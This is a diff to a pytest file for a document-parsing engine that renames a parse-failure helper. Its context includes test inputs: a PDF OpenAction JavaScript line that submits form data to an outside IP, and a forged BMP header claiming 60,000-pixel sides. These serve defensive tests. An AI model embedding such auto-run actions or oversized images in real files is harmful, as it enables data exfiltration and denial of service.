@@ -8,7 +8,7 @@ import pytest
 from app.engines.documents import iterate_attachments, parse, render
 from app.engines.documents.media import IMAGE_TYPES, MAIL, PDF
 from tests.engines.documents import samples
-from tests.engines.documents.parsing import get_failure, parse_data
+from tests.engines.documents.parsing import get_parse_failure
 
 _ACTIONS = (
     b"/OpenAction <</S /JavaScript /JS (this.submitForm('http://192.0.2.1/'))>>"
@@ -66,4 +66,4 @@ def test_an_image_of_sixty_thousand_pixels_square(tmp_path: Path, media_type: st
         "image/bmp": b"BM" + bytes(8) + (54).to_bytes(4, "little") + (40).to_bytes(4, "little")
         + (60_000).to_bytes(4, "little") * 2 + b"\1\0\x18\0" + bytes(24),
     }[media_type]  # fmt: skip
-    assert get_failure(parse_data, tmp_path, head, media_type).code == "too_many_pixels"
+    assert get_parse_failure(tmp_path, head, media_type).code == "too_many_pixels"
